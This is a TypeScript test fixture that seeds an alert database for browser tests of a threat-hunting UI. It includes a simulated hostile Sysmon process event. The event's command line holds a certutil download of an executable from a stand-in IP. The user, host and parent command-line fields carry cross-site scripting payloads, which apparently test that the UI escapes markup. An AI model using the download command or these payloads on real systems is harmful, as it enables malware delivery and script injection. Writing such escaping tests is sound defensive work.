// Seeds a database for the browser tests through the real pipeline: a small simulated organisation plus one
// hostile process start (markup in the command line, a user name that is itself markup), hunted by runHunt.
// If the rules did not alert on the hostile event itself, a real alert is re-homed onto it and stored through
// the alert store, so the UI always has one hostile alert to show.

import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import { writeSimulation } from '../../src/simulate/index.js';
import { runHunt } from '../../src/pipeline.js';
import { openDb } from '../../src/store/db.js';
import { SqliteAlertStore } from '../../src/alerts/store.js';
import { alertId } from '../../src/alerts/id.js';
import type { AlertDocument } from '../../src/alerts/types.js';

export const HOSTILE_CMD = 'certutil.exe -urlcache -split -f "http://198.51.100.7/<script>alert(1)</script>" <img src=x onerror=alert(1)> C:\\Users\\Public\\a.exe';
export const HOSTILE_USER = '<img src=x onerror=alert(2)>"><svg onload=alert(3)>';
export const HOSTILE_HOST = 'WS-<b>EVIL</b>';
const HOSTILE_TIME = '2025-03-04T14:05:00.000Z';

export interface Seeded {
  dbPath: string;
  hostileAlertId: string;
  alertsTotal: number;
}

function hostileEvent(): Record<string, unknown> {
  return {
    '@timestamp': HOSTILE_TIME,
    event: { kind: 'event', category: ['process'], type: ['start'], action: 'start', code: '1', provider: 'Microsoft-Windows-Sysmon', module: 'sysmon', id: 'hostile-1' },
    host: { name: HOSTILE_HOST, hostname: HOSTILE_HOST, os: { type: 'windows', family: 'windows' } },
    user: { name: HOSTILE_USER, domain: 'CORP', id: 'S-1-5-21-1-2-3-4242' },
    process: {
      name: 'certutil.exe',
      executable: 'C:\\Windows\\System32\\certutil.exe',
      command_line: HOSTILE_CMD,
      pid: 4242,
      parent: { name: 'cmd.exe', executable: 'C:\\Windows\\System32\\cmd.exe', command_line: 'cmd.exe /c "<script>alert(4)</script>"', pid: 4000 },
    },
  };
}

export async function seedDatabase(dir: string): Promise<Seeded> {
  const eventsPath = join(dir, 'events.ndjson');
  const dbPath = join(dir, 'ui.sqlite');
  await writeSimulation({ users: 4, days: 2, attacks: 2, seed: 11 }, eventsPath);
  appendFileSync(eventsPath, `${JSON.stringify(hostileEvent())}\n`);
  await runHunt({ inputs: [eventsPath], dbPath });

  const db = openDb(dbPath);
  try {
    const store = new SqliteAlertStore(db);
    const all = store.list();
    let hostile = all.find((a) => a.user?.name === HOSTILE_USER && a.process?.command_line === HOSTILE_CMD);
    if (!hostile) {
      const base = all.find((a) => a.process?.name);
      if (!base) throw new Error('the seeded hunt produced no alert to re-home onto the hostile event');
      const doc = structuredClone(base) as AlertDocument;
      const id = alertId('event', 'hostile-1', doc.kibana.alert.rule.rule_id);
      const ev = hostileEvent() as unknown as Pick<AlertDocument, 'host' | 'user' | 'process'>;
      doc['@timestamp'] = HOSTILE_TIME;
      doc.host = ev.host;
      doc.user = ev.user;
      doc.process = ev.process;
      doc.kibana.alert.uuid = id;
      doc.kibana.alert.original_time = HOSTILE_TIME;
      doc.kibana.alert.reason = `process event with process certutil.exe, by ${HOSTILE_USER} on ${HOSTILE_HOST} created ${doc.kibana.alert.severity} alert ${doc.kibana.alert.rule.name}.`;
      doc.kibana.alert.workflow_status = 'open';
      delete doc.kibana.alert.suppression;
      if (!store.insert(doc)) throw new Error('hostile alert already present');
      hostile = doc;
    }
    return { dbPath, hostileAlertId: hostile.kibana.alert.uuid, alertsTotal: store.list().length };
  } finally {
    db.close();
  }
}

/**
 * Adds `n` alerts to a seeded database, spread over the seeded alerts' users, hosts and processes (slim
 * documents: the listing reads indexed columns), to show the list stays usable at service scale.
 */
export function addManyAlerts(dbPath: string, n: number): number {
  const db = openDb(dbPath);
  try {
    const store = new SqliteAlertStore(db);
    const bases = store.list();
    const t0 = Date.parse('2025-03-01T00:00:00.000Z');
    const severities = ['low', 'medium', 'high', 'critical'];
    const insertAll = db.transaction(() => {
      let added = 0;
      for (let i = 0; i < n; i++) {
        const base = bases[i % bases.length];
        const id = alertId('event', `bulk-${i}`, base.kibana.alert.rule.rule_id);
        const time = new Date(t0 + i * 17_000).toISOString();
        const doc: AlertDocument = {
          ...base,
          '@timestamp': time,
          anomaly: base.anomaly ? { ...base.anomaly, record_score: (i * 37) % 100 } : undefined,
          kibana: { alert: { ...base.kibana.alert, uuid: id, original_time: time, severity: severities[i % 4], workflow_status: 'open', suppression: undefined } },
          oddspawn: { source: { kind: 'event', id: `bulk-${i}` }, explanation: {} },
        };
        if (store.insert(doc)) added++;
      }
      return added;
    });
    return insertAll();
  } finally {
    db.close();
  }
}
